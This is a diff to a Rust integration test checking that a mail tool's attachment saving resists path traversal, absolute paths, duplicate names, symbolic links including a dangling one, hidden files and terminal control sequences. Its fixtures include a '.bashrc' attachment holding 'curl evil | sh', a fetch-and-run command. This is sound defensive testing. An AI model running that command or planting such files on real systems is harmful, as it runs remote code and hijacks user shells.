@@ -104,8 +104,8 @@ fn hostile_report() -> Message {
 }
 
 /// The attachments of message `save-me`: a traversal, an absolute path outside the directory
-/// (`absolute`), the same name twice, the name of a symbolic link the directory already holds,
-/// a hidden file, and a name with terminal controls. Each holds its own contents.
+/// (`absolute`), the same name twice, the names of two symbolic links the directory already
+/// holds (one to an existing file, one dangling), a hidden file, and a name with terminal controls. Each holds its own contents.
 fn attachment_message(absolute: &str) -> Message {
     let attachment = |filename: &str, data: &str| Attachment {
         filename: filename.into(),
@@ -122,6 +122,7 @@ fn attachment_message(absolute: &str) -> Message {
             attachment("report.txt", "first report"),
             attachment("report.txt", "second report"),
             attachment("link.txt", "through the link"),
+            attachment("dangling.txt", "through the dangling link"),
             attachment(".bashrc", "curl evil | sh"),
             attachment(&format!("x{H}.txt"), "controls"),
         ],
@@ -163,7 +164,6 @@ impl ExchangeService for Fake {
                 Ok(StreamInboxResponse {
                     sequence: i as u64 + 1,
                     message: Some(message),
-                    ..Default::default()
                 })
             });
         Ok(Response::new(Box::pin(futures::stream::iter(entries))))
@@ -453,8 +453,8 @@ fn listing(dir: &Path) -> BTreeMap<String, String> {
 
 /// `get --save-attachments DIR` writes every attachment inside DIR under a safe name of its own:
 /// no traversal, no absolute path, no hidden file, no second `report.txt` over the first, no
-/// write through a symbolic link already in DIR (its target outside is untouched) — and says
-/// what it renamed.
+/// write through a symbolic link already in DIR (its target outside is untouched, a dangling
+/// link's target is not created) — and says what it renamed.
 #[test]
 fn saved_attachments_stay_in_their_directory_and_replace_nothing() {
     let outside = tempfile::tempdir().expect("temporary directory");
@@ -465,6 +465,8 @@ fn saved_attachments_stay_in_their_directory_and_replace_nothing() {
     let target = outside.path().join("target.txt");
     std::fs::write(&target, "precious").expect("write target");
     std::os::unix::fs::symlink(&target, saved.join("link.txt")).expect("symlink");
+    let nowhere = outside.path().join("created-through-link.txt");
+    std::os::unix::fs::symlink(&nowhere, saved.join("dangling.txt")).expect("symlink");
 
     let output = exchange.run(&["get", "save-me", "--save-attachments", "saved"]);
     assert!(output.status.success(), "{output:?}");
@@ -479,6 +481,7 @@ fn saved_attachments_stay_in_their_directory_and_replace_nothing() {
         "precious",
         "the symbolic link was followed"
     );
+    assert!(!nowhere.exists(), "the dangling symbolic link was followed");
     let absolute_name = absolute.to_str().expect("UTF-8").replace('/', "_");
     let want: BTreeMap<String, String> = [
         ("___escaped.txt", "traversal"),
@@ -487,6 +490,8 @@ fn saved_attachments_stay_in_their_directory_and_replace_nothing() {
         ("report (2).txt", "second report"),
         ("link.txt", &format!("-> {}", target.display())),
         ("link (2).txt", "through the link"),
+        ("dangling.txt", &format!("-> {}", nowhere.display())),
+        ("dangling (2).txt", "through the dangling link"),
         ("_bashrc", "curl evil | sh"),
         ("x_[2J_]0;pwned__31m________.txt", "controls"),
     ]
